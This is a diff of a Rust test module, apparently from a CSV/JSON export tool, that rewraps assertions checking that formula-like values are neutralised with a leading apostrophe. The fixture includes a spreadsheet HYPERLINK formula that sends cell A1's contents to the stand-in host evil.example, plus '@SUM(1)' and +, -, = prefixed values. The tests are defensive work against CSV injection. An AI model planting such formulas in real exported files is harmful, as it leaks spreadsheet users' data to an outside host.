@@ -260,7 +260,9 @@ mod tests {
         let sheet = csv(&list(evil, "@SUM(1)", "https://x.test/", 0)).expect("csv");
         let row = sheet.lines().nth(1).expect("row");
         assert!(
-            row.starts_with("3,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",'@SUM(1),"),
+            row.starts_with(
+                "3,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",'@SUM(1),"
+            ),
             "{row}"
         );
         for lead in ["+1", "-1", "=1"] {
@@ -268,7 +270,10 @@ mod tests {
             assert!(sheet.contains(&format!(",'{lead},")), "{sheet}");
         }
         let json = json(&list(evil, "a", "", 0)).expect("json");
-        assert!(json.contains("\"title\":\"=HYPERLINK"), "JSON keeps the title: {json}");
+        assert!(
+            json.contains("\"title\":\"=HYPERLINK"),
+            "JSON keeps the title: {json}"
+        );
     }
 
     #[test]
